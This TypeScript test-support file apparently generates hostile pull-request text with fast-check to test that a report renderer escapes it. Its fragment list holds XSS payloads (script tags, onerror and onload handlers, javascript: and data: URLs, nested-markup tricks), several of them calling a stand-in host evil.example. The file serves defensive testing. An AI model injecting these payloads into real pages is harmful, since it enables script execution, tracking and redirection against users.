// What somebody could write into a pull request to get out of the place where it is shown.
import fc from 'fast-check';
import type { ReportData } from '../../../../src/rehearsal/report/data.ts';
import { anyCharacter } from '../../../support/any-character.ts';

const fragments = [
  '<script>alert(1)</script>',
  '<script src=//evil.example>',
  '</script><script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png)',
  '<svg onload=alert(1)><style>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=checkbox formaction=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><button>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href=" &#x6a;avascript:alert(1)" id=stories name=top style="position:fixed">a</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '</style></head><body onload=alert(1)>',
  '<template><noscript><textarea><title><xmp><plaintext>',
  '</section></article></details></li></ol></section></main></body>',
  '<li><b><li></b><h1><div><h4><h4><ruby><dl><dd><div><ruby><dl><dd><rt>',
  '<li><li><td><tr><table><p><b><i><a href=https://a.example><select><option>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '`onmouseover=alert(1)`',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '```html\n',
  '``` "><script>\n',
  '> [!CAUTION] <script>\n',
  '| a | <b> |\n| - | - |\n| x | <script> |\n',
  '- [x] <u\n',
  '\u202E',
  '&#x202e;',
  '\u0000',
  '\uD800',
  '\n\n',
  ' ',
  '&lt;script&gt;',
  '<',
  '>',
  '"',
  "'",
  '&',
];

/** Tags that are allowed, in an order that is not. */
const tags =
  'p div b i a ul ol li dl dt dd table caption thead tbody tr td th details summary pre blockquote h1 h4 hr ruby rt code span'
    .split(' ')
    .flatMap((name) => [name === 'a' ? '<a href=https://a.example>' : `<${name}>`, `</${name}>`, 'x']);

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')),
  },
  { weight: 3, arbitrary: fc.array(fc.constantFrom(...tags), { minLength: 2, maxLength: 25 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: anyCharacter, minLength: 1, maxLength: 60 }) },
);

/** Words of our own, not of people. */
const closed = new Set(['kind', 'conclusion', 'state', 'finalState', 'nature', 'reactions']);

/** The same report with every text in it replaced by one of these, one after the other. */
export function withTexts(data: ReportData, texts: readonly string[]): ReportData {
  let next = 0;
  const replace = (value: unknown): unknown => {
    if (typeof value === 'string') return texts[next++ % texts.length];
    if (Array.isArray(value)) return value.map(replace);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, closed.has(key) ? inner : replace(inner)]));
  };
  return replace(data) as ReportData;
}
